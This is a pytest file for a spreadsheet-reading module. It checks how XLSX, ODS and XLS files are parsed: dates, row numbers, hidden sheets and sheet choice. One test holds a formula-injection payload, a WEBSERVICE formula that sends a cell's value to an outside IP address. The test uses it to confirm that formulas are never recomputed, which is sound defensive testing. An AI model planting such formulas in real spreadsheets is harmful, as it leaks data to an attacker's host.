"""XLSX and ODS are read as the values that they show: days, numbers, cached results; sheets by name."""

from datetime import date, datetime
from pathlib import Path

import pytest
import xlsxwriter

from incidents.domain.errors import Refused
from incidents.reading.tables import open_table
from unit.reading.table_files import HEADING, TODAY, book, cells, ods, rows, xls

LINES = (("X-1", date(2019, 11, 28), "ساحة مختلقة", 3), ("X-2", date(2019, 11, 29), "Invented Bridge", None))


def test_days_are_days_and_whole_numbers_are_whole(tmp_path: Path) -> None:
    found = open_table(book(tmp_path, ("One", [HEADING, *LINES])), "table.xlsx")
    assert (found.kind, found.columns, found.header_row) == ("xlsx", HEADING, 1)
    assert cells(found) == [tuple(line) for line in LINES]
    assert [row.number for row in found.rows()] == [2, 3]


def test_an_opendocument_sheet_is_read_the_same_way(tmp_path: Path) -> None:
    found = open_table(ods(tmp_path, [HEADING, LINES[0], ("X-2", TODAY, "Invented Bridge", 4.5)]), "table.ods")
    assert (found.kind, found.columns) == ("ods", HEADING)
    assert cells(found) == [tuple(LINES[0]), ("X-2", TODAY, "Invented Bridge", 4.5)]


def test_an_old_binary_workbook_is_read_the_same_way(tmp_path: Path) -> None:
    found = open_table(xls(tmp_path, [HEADING, ("X-1", 43797, "Invented Square", 3)]), "table.xls")
    assert (found.kind, found.columns, found.sheets) == ("xls", HEADING, ("One",))
    assert cells(found) == [("X-1", 43797, "Invented Square", 3)]


def test_rows_are_numbered_as_the_sheet_numbers_them(tmp_path: Path) -> None:
    found = open_table(book(tmp_path, ("One", [(), ("Invented list",), (), HEADING, LINES[0], (), LINES[1]])), "x.xlsx")
    assert found.header_row == 4
    assert [row.number for row in found.rows()] == [5, 7]


def test_short_rows_are_no_fault_in_a_sheet_but_cells_beyond_the_heading_are(tmp_path: Path) -> None:
    sheet = [HEADING, ("X-1",), ("X-2", None, None, None, None, "stray")]
    found = rows(open_table(book(tmp_path, ("One", sheet)), "x.xlsx"))
    assert tuple(found[0].cells.values()) == ("X-1", None, None, None)
    assert [str(problem) for problem in found[1].problems] == ["This row has 6 cells, the heading has 4."]


def test_the_first_sheet_with_content_is_read_and_any_other_by_name(tmp_path: Path) -> None:
    path = book(tmp_path, ("Empty", []), ("One", [HEADING, *LINES]), ("Two", [("a", "b"), (1, 2)]))
    found = open_table(path, "x.xlsx")
    assert (found.sheet, found.sheets) == ("One", ("Empty", "One", "Two"))
    assert cells(open_table(path, "x.xlsx", sheet="Two")) == cells(found.other("Two")) == [(1, 2)]
    with pytest.raises(Refused, match="There is no sheet “Three”; there are: Empty, One, Two"):
        open_table(path, "x.xlsx", sheet="Three")


def test_a_workbook_of_empty_sheets_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Refused, match="There is no table in this file"):
        open_table(book(tmp_path, ("Empty", [])), "x.xlsx")


def test_a_formula_is_the_value_that_it_last_had(tmp_path: Path) -> None:
    sheet = [("code", "killed"), ("X-1", '=WEBSERVICE("http://192.0.2.1/"&A1)'), ("X-2", "=1+1")]
    found = open_table(book(tmp_path, ("One", sheet)), "x.xlsx")
    assert cells(found) == [("X-1", 0), ("X-2", 0)]  # what the file keeps, never worked out anew


def test_a_workbook_that_counts_days_from_1904_says_so(tmp_path: Path) -> None:
    found = open_table(book(tmp_path, ("One", [HEADING, *LINES]), date_1904=True), "x.xlsx")
    assert found.dates.from_1904
    assert ("The workbook counts its days from 1904.", {}) in found.notes
    assert cells(found)[0][1] == date(2019, 11, 28)


def test_moments_and_yes_and_no_are_cells_too(tmp_path: Path) -> None:
    moment = datetime(2019, 11, 28, 3, 30)  # noqa: DTZ001 - a cell has no zone
    sheet = [("code", "at", "sure"), ("X-1", moment, True), ("X-2", moment, False)]
    found = open_table(book(tmp_path, ("One", sheet), default_date_format="yyyy-mm-dd hh:mm"), "x.xlsx")
    assert cells(found) == [("X-1", moment, "yes"), ("X-2", moment, "no")]


def test_a_hidden_sheet_is_named_and_not_chosen(tmp_path: Path) -> None:
    path = tmp_path / "hidden.xlsx"
    with xlsxwriter.Workbook(path) as made:
        hidden = made.add_worksheet("Behind")
        hidden.write_row(0, 0, ("a", "b"))
        shown = made.add_worksheet("Before")
        shown.write_row(0, 0, ("c", "d"))
        shown.activate()
        shown.set_first_sheet()
        hidden.hide()
    found = open_table(path, "x.xlsx")
    assert (found.sheet, found.columns) == ("Before", ("c", "d"))
    assert ("The sheet “%(sheet)s” is hidden.", {"sheet": "Behind"}) in found.notes
